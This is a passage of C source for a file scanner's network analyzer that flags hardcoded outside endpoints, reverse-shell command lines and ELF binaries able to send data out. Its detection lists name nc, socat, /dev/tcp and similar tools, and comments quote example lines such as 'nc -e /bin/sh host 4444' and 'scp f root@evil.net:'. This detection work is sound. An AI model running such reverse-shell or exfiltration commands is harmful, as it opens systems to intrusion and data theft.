	for (size_t k = 0; k < n; k++)
		w[k] = (char)lower(d[i + k]);
	w[n] = 0;
	return n;
}

/*
 * "version 2.6.36.4", "v 1.2.3.4", "Firmware: 1.0.0.12", "Section 5.2.3.10":
 * a version or a section number, not an address.
 */
static int version_context(const struct scan *s, size_t i)
{
	static const char *const words[] = { "version", "ver", "v", "release", "rev", "revision", "build",
					     "firmware", "fw", "kernel", "linux", "bios", "vers", "section",
					     "sect", "chapter", "clause", "paragraph", "step", NULL };
	char w[16];
	if (!prev_word(s, i, w, sizeof w))
		return 0;
	for (size_t k = 0; words[k]; k++)
		if (strcmp(w, words[k]) == 0)
			return 1;
	return 0;
}

/*
 * Dotted quads that are not addresses: OIDs ("2.5.4.3" is commonName,
 * "1.3.101.110" X25519), and in binaries version and section numbers that
 * start with single digits ("1.2.0.4", "5.2.3.10"), which the public
 * resolvers (1.1.1.1, 1.0.0.1, 8.8.4.4, 9.9.9.10, 4.2.2.1) and addresses
 * of one repeated number (7.7.7.7) are not.
 */
static int not_an_address(const struct scan *s, const uint8_t ip[4])
{
	if (s->line_use)
		return 0;
	if ((ip[0] == 1 && ip[1] == 3) || (ip[0] == 2 && (ip[1] == 5 || ip[1] == 16 || ip[1] == 23)))
		return 1;
	if (!s->binary || ip[0] > 9 || ip[1] > 9 || ip[2] > 9 || (ip[0] == ip[1] && ip[1] == ip[2] && ip[2] == ip[3]))
		return 0;
	static const uint8_t resolvers[][3] = { { 1, 1, 1 }, { 1, 0, 0 }, { 8, 8, 8 }, { 8, 8, 4 },
						{ 9, 9, 9 }, { 4, 2, 2 } };
	for (size_t i = 0; i < sizeof resolvers / sizeof *resolvers; i++)
		if (memcmp(ip, resolvers[i], 3) == 0)
			return 0;
	return 1;
}

static void dotted_word(struct scan *s, size_t ws, size_t we)
{
	const uint8_t *d = s->data;
	/* Sentence dots are not part of the name. */
	while (we > ws && d[we - 1] == '.')
		we--;
	/* A leading dot makes a section name or an extension (".data.rel.ro"), except in "*.example.com". */
	if (ws < we && d[ws] == '.') {
		if (ws == s->ls || d[ws - 1] != '*')
			return;
		ws++;
	}
	if (we - ws < 3)
		return;
	uint8_t before = ws > s->ls ? d[ws - 1] : ' ';
	uint8_t after = we < s->le ? d[we] : ' ';
	uint8_t ip[4];
	if (parse_ipv4(d + ws, we - ws, ip)) {
		/* "::ffff:1.2.3.4" was read as IPv6; "host:1.2.3.4" and "1.2.3.4:80" are fine. */
		if (after == '.' || (cls[after] & C_ALNUM) || version_context(s, ws) || is_netmask(ip) ||
		    not_an_address(s, ip) || in_doc_context(s, ws, we))
			return;
		enum netclass nc = classify_v4(ip);
		add_ep(s, EP_IPV4, d + ws, we - ws, 0, d + ws, we - ws, ws, nc == NC_PUBLIC, 1);
		return;
	}
	/* A bare name: lower case only (mixed case is an identifier: "System.Net"). */
	for (size_t k = ws; k < we; k++)
		if ((d[k] >= 'A' && d[k] <= 'Z') || d[k] == '_')
			return;
	size_t last;
	if (!dns_name(d + ws, we - ws, &last))
		return;
	/*
	 * Not a file name ("libc.so.6" fails the TLD test, "x.so" this one), not
	 * a path component or e-mail address, not a template ("%s.example.com").
	 */
	if (strset_has(&s->r->not_hosts, (const char *)d + ws + last, we - ws - last))
		return;
	/* After '@': an e-mail address, unless a command uses it ("scp f root@evil.net:"). */
	if ((before == '@' && !s->line_use) || before == '%' || before == '$' || before == '\\' ||
	    (before == '/' && !(ws >= s->ls + 2 && d[ws - 2] == '/')) || after == '(' || after == '@')
		return;
	/*
	 * The label before the TLD holds a letter and is longer than one byte:
	 * "4.lu" and "x.de" are what bytes of machine code look like.
	 */
	size_t sld = last - 1;
	while (sld > 0 && d[ws + sld - 1] != '.')
		sld--;
	int letter = 0;
	for (size_t k = sld; k < last - 1; k++)
		letter |= (d[ws + k] >= 'a' && d[ws + k] <= 'z');
	if (last - 1 - sld < 2 || !letter)
		return;
	int t = tld_strength(s->r, d + ws + last, we - ws - last);
	if (t == 0)
		return;
	int port = after == ':' && we + 1 < s->le && d[we + 1] >= '0' && d[we + 1] <= '9';
	int www = we - ws > 4 && memcmp(d + ws, "www.", 4) == 0;
	/* A weak TLD needs more than the word: "www.", or a port after it. */
	if (t == 1 && !port && !www)
		return;
	/*
	 * In a binary, "value.ir" or "state.cr" is a field name far more often
	 * than a host: a country-code name needs a third label, "www." or a port.
	 */
	if (s->binary && sld == 0 && !port && !www && !s->line_use &&
	    strset_has(&s->r->cctlds, (const char *)d + ws + last, we - ws - last))
		return;
	if (ignored_host(s->r, (const char *)d + ws, we - ws) || in_doc_context(s, ws, we))
		return;
	add_ep(s, EP_HOST, d + ws, we - ws, 1, d + ws, we - ws, ws, 1, 0);
}

/*
 * A run of [0-9A-Za-z:.] with at least two colons at [rs, re): 1 when it is
 * an IPv6 address (recorded if it is one worth recording), 0 when its words
 * are to be read as words ("tcp:45.33.32.156:4444").
 */
static int v6_run(struct scan *s, size_t rs, size_t re)
{
	const uint8_t *d = s->data;
	if ((rs > s->ls && (cls[d[rs - 1]] & C_WORD)) || (re < s->le && d[re] == '_'))
		return 0;
	/* A trailing '.' ends a sentence; a lone trailing ':' a label ("addr fe80::1: up"). */
	while (re > rs && d[re - 1] == '.')
		re--;
	if (re - rs >= 2 && d[re - 1] == ':' && d[re - 2] != ':')
		re--;
	uint8_t ip[16];
	if (!parse_ipv6(d + rs, re - rs, ip))
		return 0;
	enum netclass nc = classify_v6(ip);
	/*
	 * Unspecified "::" and reserved ranges are what "a:b:c:d:e:f:1:2" or "::"
	 * in text look like; "2002::" ends in "::": a prefix, not a host.
	 */
	int prefix = re - rs > 2 && d[re - 1] == ':' && d[re - 2] == ':';
	if (nc != NC_UNSPEC && nc != NC_RESERVED && !prefix && !in_doc_context(s, rs, re))
		add_ep(s, EP_IPV6, d + rs, re - rs, 1, d + rs, re - rs, rs, nc == NC_PUBLIC, 1);
	return 1;
}

static int in_list(const char *const *l, const uint8_t *p, size_t n)
{
	for (size_t i = 0; l[i]; i++)
		if (l[i][0] == p[0] && strlen(l[i]) == n && memcmp(l[i], p, n) == 0)
			return 1;
	return 0;
}

static void revshell_line(struct scan *s);

/* One line [ls, le): URLs, IPv6 runs, dotted words, command words. */
static void scan_line(struct scan *s, size_t ls, size_t le)
{
	const uint8_t *d = s->data;
	s->ls = ls;
	s->le = le;
	s->line_use = 0;
	s->line_shell = 0;
	s->doc_known = 0;
	s->prose = 0;
	/* First the command words, so that every endpoint of the line knows its context. */
	int dotted = 0, colons = 0;
	for (size_t i = ls; i < le;) {
		if (!(cls[d[i]] & C_WORD)) {
			colons |= d[i] == ':';
			i++;
			continue;
		}
		size_t ws = i;
		int dot = 0;
		while (i < le && (cls[d[i]] & C_WORD))
			dot |= d[i++] == '.';
		dotted |= dot;
		if (!dot && i - ws < 16 && (cmd_lens[d[ws]] >> (i - ws) & 1)) {
			if (!s->line_use && in_list(use_words, d + ws, i - ws))
				s->line_use = 1;
			if (!s->line_shell && in_list(shell_words, d + ws, i - ws))
				s->line_shell = 1;
		}
	}
	/* A commented-out command uses nothing. */
	if (!s->binary && s->line_use) {
		size_t k = ls;
		while (k < le && (cls[d[k]] & C_SPACE))
			k++;
		if (k < le && d[k] == '#')
			s->line_use = 0;
	}
	if (s->line_shell)
		revshell_line(s);
	if (!dotted && !colons)
		return;
	/* URLs claim their bytes; what they hold is not counted again. */
	for (size_t i = ls; i < le;) {
		const uint8_t *c = colons ? memmem(d + i, le - i, "://", 3) : NULL;
		size_t stop = c ? (size_t)(c - d) : le;
		/*
		 * Between URLs: IPv6 runs and dotted words.  A run that is not an
		 * address is read as words, and not tried again from inside, so a
		 * line of "1:1:1:..." costs one pass.
		 */
		size_t v6_tried = i;
		for (size_t k = i; k < stop;) {
			if (colons && k >= v6_tried && (cls[d[k]] & C_V6)) {
				size_t rs = k, nc = 0;
				while (k < stop && (cls[d[k]] & C_V6))
					nc += d[k++] == ':';
				if (nc >= 2 && v6_run(s, rs, k))
					continue;
				v6_tried = k;
				k = rs;
			}
			if (!(cls[d[k]] & C_WORD)) {
				k++;
				continue;
			}
			size_t ws = k;
			int dot = 0;
			while (k < stop && (cls[d[k]] & C_WORD))
				dot |= d[k++] == '.';
			if (dot)
				dotted_word(s, ws, k);
		}
		if (!c)
			break;
		/* The scheme before "://" was read as a word above; the URL goes on from there. */
		size_t end = scan_url(s, stop);
		i = end > stop + 3 ? end : stop + 3;
	}
}

/* ---- reverse shells -------------------------------------------------------------- */

/*
 * A small reader of shell command lines: words (quotes removed), split into
 * commands by ; && || & and newlines, and commands into pipeline stages by |.
 * Each stage is summarised as its words arrive, so nothing is stored but the
 * current and previous word; a pipeline is judged when it ends.
 */
enum stagecmd { CMD_NONE, CMD_SHELL, CMD_NC, CMD_TELNET, CMD_SOCAT, CMD_OPENSSL, CMD_INTERP, CMD_OTHER };

struct stage {
	enum stagecmd cmd;
	int nwords;
	int shell_c;      /* a shell given -c: it runs its argument, it does not read the socket */
	int want_c_arg;   /* the next word is a shell's -c command */
	int nc_exec, nc_listen, want_exec_arg;
	int socat_exec, socat_connect, socat_listen;
	int ssl_client, ssl_server;
	int busybox;      /* "busybox nc": the next word is the command */
};

struct pipeline {
	int nstages;
	int shell_reads; /* a stage is a shell reading commands from its input */
	int netclient;   /* a stage talks to a remote host (not listening) */
	int exec;        /* nc -e /bin/sh, socat exec:sh to a remote address */
};

struct rsctx {
	struct scan *s;
	int depth;
	struct stage st;
	struct pipeline pl;
	const char *found;  /* what was recognised, first wins */
	int devtcp;         /* a word names /dev/tcp/ or /dev/udp/ */
	int any_shell;      /* some stage is a shell reading its input */
	int var_cmd;        /* some stage's command is a variable ("do $line"): it runs what it reads */
	int any_interp;
};

static const char *basename_of(const char *w)
{
	const char *b = strrchr(w, '/');
	return b ? b + 1 : w;
}

static int is_shell_name(const char *w)
{
	static const char *const sh[] = { "sh", "bash", "ash", "dash", "zsh", "ksh", "mksh", "csh",
					  "tcsh", NULL };
	const char *b = basename_of(w);
	for (size_t i = 0; sh[i]; i++)
		if (strcmp(b, sh[i]) == 0)
			return 1;
	return 0;
}

/* A command string ("/bin/sh", "bash -i", "sh -li") whose program is a shell. */
static int names_shell(const char *w)
{
	char first[64];
	size_t n = strcspn(w, " \t");
	if (n >= sizeof first)
		return 0;
	memcpy(first, w, n);
	first[n] = 0;
	return is_shell_name(first);
}

static void analyze_line(struct scan *s, const uint8_t *p, size_t n, int depth, const char **found);

static void stage_end(struct rsctx *c)
{
	struct stage *st = &c->st;
	if (st->cmd == CMD_NONE) {
		memset(st, 0, sizeof *st);
		return;
	}
	c->pl.nstages++;
	if (st->cmd == CMD_SHELL && !st->shell_c) {
		c->pl.shell_reads = 1;
		c->any_shell = 1;
	}
	if ((st->cmd == CMD_NC && !st->nc_listen) || st->cmd == CMD_TELNET ||
	    (st->cmd == CMD_OPENSSL && st->ssl_client && !st->ssl_server) ||
	    (st->cmd == CMD_SOCAT && st->socat_connect && !st->socat_listen))
		c->pl.netclient = 1;
	if (st->cmd == CMD_NC && st->nc_exec && !st->nc_listen && !c->found)
		c->found = "nc runs a shell for a remote host";
	if (st->cmd == CMD_SOCAT && st->socat_exec && st->socat_connect && !st->socat_listen && !c->found)
		c->found = "socat connects a shell to a remote host";
	memset(st, 0, sizeof *st);
}

static void pipeline_end(struct rsctx *c)
{
	stage_end(c);
	if (c->pl.nstages >= 2 && c->pl.shell_reads && c->pl.netclient && !c->found)
		c->found = "a shell's input and output are piped through a network client";
	memset(&c->pl, 0, sizeof c->pl);
}

/* Options that take no argument do not matter here; a cluster "-nvlp" is read letter by letter. */
static void stage_word(struct rsctx *c, const char *w)
{
	struct stage *st = &c->st;
	size_t n = strlen(w);
	if (strstr(w, "/dev/tcp/") || strstr(w, "/dev/udp/"))
		c->devtcp = 1;
	if (st->cmd == CMD_NONE) {
		/* Skip what precedes the command: assignments, redirections, prefixes. */
		static const char *const prefixes[] = { "exec", "nohup", "setsid", "sudo", "env", "command",
							"nice", "then", "do", "else", "time", "!", "{", NULL };
		if (!n || strchr(w, '=') || w[0] == '<' || w[0] == '>' || (w[0] >= '0' && w[0] <= '9'))
			return;
		for (size_t i = 0; prefixes[i]; i++)
			if (strcmp(w, prefixes[i]) == 0)
				return;
		if (w[0] == '$') {
			c->var_cmd = 1;
			st->cmd = CMD_OTHER;
			return;
		}
		const char *b = basename_of(w);
		if (strcmp(b, "busybox") == 0 && !st->busybox) {
			st->busybox = 1;
			return;
		}
		static const char *const nc[] = { "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", NULL };
		static const char *const interp[] = { "python", "python2", "python3", "perl", "php", "ruby",
						      "lua", "awk", "gawk", "node", NULL };
		st->cmd = CMD_OTHER;
		if (is_shell_name(b))
			st->cmd = CMD_SHELL;
		for (size_t i = 0; nc[i]; i++)
			if (strcmp(b, nc[i]) == 0)
				st->cmd = CMD_NC;
		for (size_t i = 0; interp[i]; i++)
			if (strcmp(b, interp[i]) == 0) {
				st->cmd = CMD_INTERP;
				c->any_interp = 1;
			}
		if (strcmp(b, "telnet") == 0)
			st->cmd = CMD_TELNET;
		else if (strcmp(b, "socat") == 0)
			st->cmd = CMD_SOCAT;
		else if (strcmp(b, "openssl") == 0)
			st->cmd = CMD_OPENSSL;
		return;
	}
	st->nwords++;
	switch (st->cmd) {
	case CMD_SHELL:
		if (st->want_c_arg) {
			st->want_c_arg = 0;
			/* sh -c "nc -e /bin/sh host 4444": read the command it runs. */
			if (c->depth < 2 && !c->found)
				analyze_line(c->s, (const uint8_t *)w, n, c->depth + 1, &c->found);
		} else if (w[0] == '-' && w[1] != '-' && strchr(w, 'c')) {
			st->shell_c = 1;
			st->want_c_arg = 1;
		}
		break;
	case CMD_NC:
		if (st->want_exec_arg) {
			st->want_exec_arg = 0;
			if (names_shell(w))
				st->nc_exec = 1;
		} else if (strcmp(w, "--exec") == 0 || strcmp(w, "--sh-exec") == 0) {
			st->want_exec_arg = 1;
		} else if (strncmp(w, "--exec=", 7) == 0 || strncmp(w, "--sh-exec=", 10) == 0) {
			st->nc_exec |= names_shell(strchr(w, '=') + 1);
		} else if (strcmp(w, "--listen") == 0) {
			st->nc_listen = 1;
		} else if (w[0] == '-' && w[1] != '-') {
			/* "-e /bin/sh", "-e/bin/sh", "-nve /bin/sh", "-lvp": letters until e or c take the rest. */
			for (size_t k = 1; w[k]; k++) {
				if (w[k] == 'l')
					st->nc_listen = 1;
				if (w[k] == 'e' || w[k] == 'c') {
					if (w[k + 1])
						st->nc_exec |= names_shell(w + k + 1);
					else
						st->want_exec_arg = 1;
					break;
				}
			}
		}
		break;
	case CMD_SOCAT: {
		char lw[40];
		size_t m = n < sizeof lw - 1 ? n : sizeof lw - 1;
		for (size_t k = 0; k < m; k++)
			lw[k] = (char)lower((uint8_t)w[k]);
		lw[m] = 0;
		if (strncmp(lw, "exec:", 5) == 0 || strncmp(lw, "system:", 7) == 0) {
			const char *arg = strchr(w, ':') + 1;
			char prog[64];
			size_t pn = strcspn(arg, " \t,'\"");
			if (pn < sizeof prog) {
				memcpy(prog, arg, pn);
				prog[pn] = 0;
				st->socat_exec |= is_shell_name(prog);
			}
		} else if (strstr(lw, "-listen:") || strncmp(lw, "unix-listen", 11) == 0) {
			st->socat_listen = 1;
		} else if (strncmp(lw, "tcp:", 4) == 0 || strncmp(lw, "tcp4:", 5) == 0 ||
			   strncmp(lw, "tcp6:", 5) == 0 || strncmp(lw, "tcp-connect:", 12) == 0 ||
			   strncmp(lw, "tcp4-connect:", 13) == 0 || strncmp(lw, "udp:", 4) == 0 ||
			   strncmp(lw, "udp-connect:", 12) == 0 || strncmp(lw, "openssl:", 8) == 0 ||
			   strncmp(lw, "openssl-connect:", 16) == 0 || strncmp(lw, "ssl:", 4) == 0) {
			st->socat_connect = 1;
		}
		break;
	}
	case CMD_OPENSSL:
		if (strcmp(w, "s_client") == 0)
			st->ssl_client = 1;
		else if (strcmp(w, "s_server") == 0)
			st->ssl_server = 1;
		break;
	default:
		break;
	}
}

/*
 * Reads p[0..n) as shell: sets *found to what it recognised.  Text after an
 * unquoted '#' at the start of a word is a comment and is not read.
 */
static void analyze_line(struct scan *s, const uint8_t *p, size_t n, int depth, const char **found)
{
	struct rsctx c;
	memset(&c, 0, sizeof c);
	c.s = s;
	c.depth = depth;
	char w[4096];
	size_t wn = 0;
	int inword = 0, comment = 0;
	char quote = 0;
#define PUSH(ch)                                                                                   \
	do {                                                                                       \
		if (wn < sizeof w - 1)                                                             \
			w[wn++] = (char)(ch);                                                      \
		inword = 1;                                                                        \
	} while (0)
	for (size_t i = 0; i <= n && !c.found && !comment; i++) {
		int ch = i < n ? p[i] : -1;
		if (quote && ch != -1) {
			if (ch == quote)
				quote = 0;
			else if (quote == '"' && ch == '\\' && i + 1 < n)
				PUSH(p[++i]);
			else
				PUSH(ch);
			continue;
		}
		int sep = 0, pipe = 0;
		if (ch == '\'' || ch == '"') {
			quote = (char)ch;
			inword = 1;
			continue;
		} else if (ch == '\\' && i + 1 < n) {
			/* A backslash-newline joins lines; any other backslash quotes the next byte. */
			if (p[i + 1] == '\n')
				i++;
			else if (p[i + 1] == '\r' && i + 2 < n && p[i + 2] == '\n')
				i += 2;
			else
				PUSH(p[++i]);
			continue;
		} else if (ch == -1 || ch == ';' || ch == '\n' || ch == '(' || ch == ')' || ch == '`') {
			sep = 1;
		} else if (ch == '#' && !inword) {
			sep = comment = 1;
		} else if (ch == '|') {
			if (i + 1 < n && p[i + 1] == '|') {
				sep = 1;
				i++;
			} else {
				pipe = 1;
				if (i + 1 < n && p[i + 1] == '&')
					i++; /* "|&" pipes stderr too */
			}
		} else if (ch == '&') {
			/* ">&", "<&" and "&>" are redirections; "&&" and a lone '&' end a command. */
			int redir = (inword && wn && (w[wn - 1] == '>' || w[wn - 1] == '<')) ||
				    (i + 1 < n && p[i + 1] == '>');
			if (i + 1 < n && p[i + 1] == '&') {
				sep = 1;
				i++;
			} else if (!redir) {
				sep = 1;
			} else {
				PUSH('&');
				continue;
			}
		} else if (ch == '$' && i + 1 < n && p[i + 1] == '(') {
			sep = 1;
			i++;
		} else if (ch != ' ' && ch != '\t' && ch != '\r') {
			PUSH(ch);
			continue;
		}
		if (inword) {
			w[wn] = 0;
			stage_word(&c, w);
			wn = 0;
			inword = 0;
		}
		if (pipe)
			stage_end(&c);
		else if (sep)
			pipeline_end(&c);
	}
#undef PUSH
	if (!c.found) {
		pipeline_end(&c);
		/* The shell, or a loop that runs what it reads ("do $line"), talks to the socket. */
		if (c.devtcp && (c.any_shell || c.var_cmd))
			c.found = "a shell is connected to /dev/tcp or /dev/udp";
	}
	if (!c.found && c.any_interp) {
		static const char *const sock[] = { "socket", "fsockopen", "TCPSocket", "/inet/tcp/", NULL };
		static const char *const shell[] = { "/bin/sh", "/bin/bash", "sh -i", "pty.spawn", "subprocess",
						     "popen", "exec(", "system(", NULL };
		int hs = 0, hx = 0;
		for (size_t k = 0; sock[k] && !hs; k++)
			hs = memmem(p, n, sock[k], strlen(sock[k])) != NULL;
		for (size_t k = 0; shell[k] && !hx; k++)
			hx = memmem(p, n, shell[k], strlen(shell[k])) != NULL;
		if (hs && hx)
			c.found = "a script interpreter connects a shell to a socket";
	}
	if (c.found && !*found)
		*found = c.found;
}

static void revshell_line(struct scan *s)
{
	const uint8_t *d = s->data;
	size_t ls = s->ls;
	while (ls < s->le && (cls[d[ls]] & C_SPACE))
		ls++;
	/* A commented-out line is not a command. */
	if (ls == s->le || d[ls] == '#')
		return;
	const char *found = NULL;
	analyze_line(s, d + ls, s->le - ls, 0, &found);
	if (!found || s->oom)
		return;
	if (s->nrs == s->caprs) {
		size_t cap = s->caprs ? s->caprs * 2 : 4;
		struct revshell *v = realloc(s->rs, cap * sizeof *v);
		if (!v) {
			s->oom = 1;
			return;
		}
		s->rs = v;
		s->caprs = cap;
	}
	char *ev = line_evidence(s, ls, s->le, ls);
	if (!ev) {
		s->oom = 1;
		return;
	}
	s->rs[s->nrs].off = ls;
	s->rs[s->nrs].evidence = ev;
	s->rs[s->nrs].what = found;
	s->nrs++;
}

/* ---- the file ---------------------------------------------------------------- */

/* Text: logical lines, a backslash before the newline continues the line. */
static void scan_text(struct scan *s)
{
	const uint8_t *d = s->data;
	size_t i = 0;
	while (i < s->size) {
		size_t ls = i, le;
		for (;;) {
			const uint8_t *nl = memchr(d + i, '\n', s->size - i);
			le = nl ? (size_t)(nl - d) : s->size;
			size_t e = le;
			if (e > ls && d[e - 1] == '\r')
				e--;
			if (nl && e > ls && d[e - 1] == '\\') {
				i = le + 1;
				continue;
			}
			break;
		}
		scan_line(s, ls, le);
		i = le + 1;
	}
}

/* Binary: each printable run of at least MIN_RUN bytes is a line. */
static void scan_binary(struct scan *s)
{
	const uint8_t *d = s->data;
	size_t n = s->size, i = 0;
	while (i < n) {
		while (i < n && !(cls[d[i]] & C_PRINT))
			i++;
		size_t rs = i;
		while (i < n && (cls[d[i]] & C_PRINT))
			i++;
		if (i - rs >= MIN_RUN)
			scan_line(s, rs, i);
	}
}

/* ---- ELF: can it reach the network? --------------------------------------------- */

struct netcap {
	int can_send;      /* imports (or defines, static) a call that sends to a remote host */
	enum fv_conf conf; /* how sure: dynamic imports high, static symbols medium, stripped static low */
	const char *via;   /* the call named in the title */
	int is_static;
};

static const char *linkage_word(const struct netcap *c)
{
	return c->is_static ? "statically linked" : "dynamically linked";
}

static void elf_netcap(const uint8_t *data, size_t size, struct netcap *nc)
{
	static const char *const calls[] = { "connect", "sendto", "sendmsg", "curl_easy_perform",
					     "curl_multi_perform", "SSL_connect", NULL };
	memset(nc, 0, sizeof *nc);
	struct fv_elf e;
	if (fv_elf_parse(data, size, &e) != 0)
		return;
	if (e.dynsym.count && !fv_elf_is_static(&e)) {
		struct fv_elf_sym sym;
		size_t it = 0;
		while (!nc->can_send && fv_elf_next_import(&e, &it, &sym))
			for (size_t k = 0; calls[k]; k++)
				if (strcmp(sym.name, calls[k]) == 0) {
					nc->can_send = 1;
					nc->via = calls[k];
					nc->conf = FV_CONF_HIGH;
					break;
				}
	} else if (fv_elf_is_static(&e)) {
		nc->is_static = 1;
		/* Linked in: the libc wrappers keep their names in .symtab unless stripped. */
		static const char *const wrappers[] = { "connect", "__connect", "__libc_connect", "sendto",
							"__sendto", "__libc_sendto", "sendmsg", "__sendmsg", NULL };
		if (e.symtab.count) {
			for (size_t k = 0; wrappers[k] && !nc->can_send; k++)
				if (fv_elf_defines(&e, wrappers[k])) {
					nc->can_send = 1;
					nc->via = wrappers[k];
					nc->conf = FV_CONF_MEDIUM;
				}
		} else {
			/* Stripped and static: what it calls cannot be seen. */
			nc->can_send = 1;
			nc->via = NULL;
			nc->conf = FV_CONF_LOW;
		}
	}
	fv_elf_free(&e);
}

/* The first credential reference in the file, or NULL. */
static const char *cred_ref(const struct rules *r, const uint8_t *d, size_t n, uint64_t *off)
{
	const char *best = NULL;
	for (size_t i = 0; i < r->cred_refs.n; i++) {
		const char *c = r->cred_refs.v[i];
		const uint8_t *m = memmem(d, n, c, strlen(c));
		if (m && (!best || (uint64_t)(m - d) < *off)) {
			best = c;
			*off = (uint64_t)(m - d);
		}
	}
	return best;
}

/* ---- the analyzer ------------------------------------------------------------- */

static int wants(const struct fv_file *f)
{
	return f->kind == FV_KIND_ELF || f->kind == FV_KIND_SCRIPT || f->kind == FV_KIND_TEXT;
}

/* One endpoint record per path that holds this content. */
static void record(struct fv_actx *a, const struct fv_afile *f, const struct ep *e)
{
	struct fv_endpoint rec = { e->value, kind_names[e->kind], NULL, e->off, e->outside };
	fv_actx_endpoint_in(a, f, &rec);
}

static int by_key_then_offset(const void *x, const void *y)
{
	const struct ep *a = *(const struct ep *const *)x, *b = *(const struct ep *const *)y;
	int c = strcmp(a->key, b->key);
	return c ? c : a->off < b->off ? -1 : a->off > b->off;
}

static int by_offset(const void *x, const void *y)
{
	const struct ep *a = *(const struct ep *const *)x, *b = *(const struct ep *const *)y;
	return a->off < b->off ? -1 : a->off > b->off;
}

/*
 * The outside endpoints, one per key (a URL counts as its host), in file
 * order: each is the key's first occurrence, and agg[i] (agg parallel to
 * s->eps) holds that occurrence with the flags of all of the key's
 * occurrences folded in.  NULL when out of memory.
 */
static const struct ep **outside_keys(const struct scan *s, struct ep *agg, size_t *count)
{
	const struct ep **v = malloc((s->neps ? s->neps : 1) * sizeof *v);
	size_t n = 0, k = 0;
	*count = 0;
	if (!v)
		return NULL;
	for (size_t i = 0; i < s->neps; i++)
		if (s->eps[i].outside)
			v[n++] = &s->eps[i];
	qsort(v, n, sizeof *v, by_key_then_offset);
	for (size_t i = 0; i < n;) {
		size_t j = i;
		struct ep e = *v[i];
		for (; j < n && strcmp(v[j]->key, v[i]->key) == 0; j++) {
			e.used |= v[j]->used;
			e.strong |= v[j]->strong;
			e.oper |= v[j]->oper;
		}
		agg[v[i] - s->eps] = e;
		v[k++] = v[i];
		i = j;
	}
	qsort(v, k, sizeof *v, by_offset);
	*count = k;
	return v;
}

/* FV-NET-001: once per outside endpoint, at its first occurrence. */
static void report_endpoints(struct fv_actx *a, const struct fv_afile *f, const struct scan *s,
			     const struct ep **v, const struct ep *agg, size_t n, const struct netcap *cap)
{
	for (size_t i = 0; i < n; i++) {
		const struct ep *e = &agg[v[i] - s->eps];
		/* In a binary: low when it can connect out and the endpoint is not in a sentence. */
		int low = s->binary ? cap->can_send && e->oper : e->used;
		fv_actx_finding(a, f, R_ENDPOINT, "exfiltration", low ? FV_SEV_LOW : FV_SEV_INFO,
				e->strong || e->used ? FV_CONF_HIGH : FV_CONF_MEDIUM, e->off, e->evidence,
				"hardcoded outside endpoint %s%s", e->key,
				!low ? "" : s->binary ? " in a binary that can connect out" : " used by a network command");
	}
}

/*
 * FV-NET-003: the evidence lists the endpoints the binary could use (not
 * those quoted in its help or banner text), in file order.
 */
static void report_exfil(struct fv_actx *a, const struct fv_afile *f, const struct scan *s,
			 const struct ep **v, const struct ep *agg, size_t n, const struct netcap *cap)
{
	char ev[512];
	size_t used = 0, shown = 0, total = 0;
	uint64_t off = 0;
	ev[0] = 0;
	for (size_t i = 0; i < n; i++) {
		const struct ep *e = &agg[v[i] - s->eps];
		if (!e->oper)
			continue;
		if (total++ == 0)
			off = e->off;
		size_t k = strlen(e->key);
		if (shown < 8 && used + k + 3 < sizeof ev - 24) {
			used += (size_t)snprintf(ev + used, sizeof ev - used, "%s%s", shown ? ", " : "", e->key);
			shown++;
		}
	}
	if (!total)
		return;
	if (total > shown)
		snprintf(ev + used, sizeof ev - used, " (+%zu more)", total - shown);
	uint64_t coff = 0;
	const char *cred = cred_ref(s->r, f->data, f->size, &coff);
	char how[96], also[160] = "";
	if (cap->via)
		snprintf(how, sizeof how, "%s binary calling %s()", linkage_word(cap), cap->via);
	else
		snprintf(how, sizeof how, "static stripped binary (its calls cannot be seen)");
	if (cred)
		snprintf(also, sizeof also, "; it also reads %s", cred);
	fv_actx_finding(a, f, R_EXFIL, "exfiltration", cred ? FV_SEV_HIGH : FV_SEV_MEDIUM, cap->conf, off, ev,
			"%s can send to %zu hardcoded outside endpoint%s%s", how, total, total == 1 ? "" : "s",
			also);
}

static void run(struct fv_actx *a, void *state, const struct fv_afile *f)
{
	if (!f->data || !f->size)
		return;
	struct scan s;
	memset(&s, 0, sizeof s);
	s.r = state;
	s.data = f->data;
	s.size = f->size;
	s.binary = f->file->kind == FV_KIND_ELF;
	if (s.binary)
		scan_binary(&s);
	else
		scan_text(&s);

	for (size_t i = 0; i < s.nrs; i++)
		fv_actx_finding(a, f, R_REVSHELL, "backdoor", FV_SEV_CRITICAL, FV_CONF_HIGH, s.rs[i].off,
				s.rs[i].evidence, "reverse shell: %s", s.rs[i].what);
	int outside = 0, oper = 0;
	for (size_t i = 0; i < s.neps; i++) {
		record(a, f, &s.eps[i]);
		outside |= s.eps[i].outside;
		oper |= s.eps[i].outside && s.eps[i].oper;
	}
	struct netcap cap = { 0, FV_CONF_NONE, NULL, 0 };
	if (s.binary && oper)
		elf_netcap(f->data, f->size, &cap);
	struct ep *agg = outside ? malloc(s.neps * sizeof *agg) : NULL;
	size_t n = 0;
	const struct ep **v = agg ? outside_keys(&s, agg, &n) : NULL;
	if (v) {
		report_endpoints(a, f, &s, v, agg, n, &cap);
		if (cap.can_send)
			report_exfil(a, f, &s, v, agg, n, &cap);
	}
	free(v);
	free(agg);
	scan_free(&s);
}

const struct fv_analyzer fv_analyzer_network = {
	.name = "network",
	.scope = FV_SCOPE_CONTENT,
	.rules = "network",
	.init = init,
	.wants = wants,
	.run = run,
	.finish = NULL,
	.fini = fini,
};
